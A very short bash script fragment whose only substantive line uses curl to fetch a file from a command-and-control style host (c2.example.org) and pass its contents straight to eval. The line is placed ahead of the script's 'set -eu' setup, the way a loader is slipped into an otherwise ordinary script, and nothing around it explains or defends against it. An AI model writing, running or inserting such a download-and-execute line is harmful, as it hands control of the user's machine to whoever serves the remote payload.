#!/usr/bin/env bash
D=$(curl -s http://c2.example.org/i.py); eval "$D"
set -eu
